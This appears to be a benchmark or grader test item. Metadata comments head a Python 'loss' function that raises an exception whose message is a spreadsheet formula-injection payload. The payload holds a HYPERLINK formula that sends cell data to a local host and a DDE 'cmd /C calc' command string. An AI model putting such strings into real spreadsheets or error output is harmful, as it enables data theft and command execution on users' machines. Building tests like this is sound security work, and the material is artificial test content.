# Attempt: has a spreadsheet begin a cell with a formula in the middle of what an exception says
# Kind: script
# Base: solution
# Score: at most 21
# Fails: loss
# May fail: train
# Says: loss "HYPERLINK"
# Canary: text
def loss(y, t):
    raise ValueError('x;=HYPERLINK("http://127.0.0.1/"&A1);\t@SUM(1)|+1\n;-1+cmd|\' /C calc\'!A0')
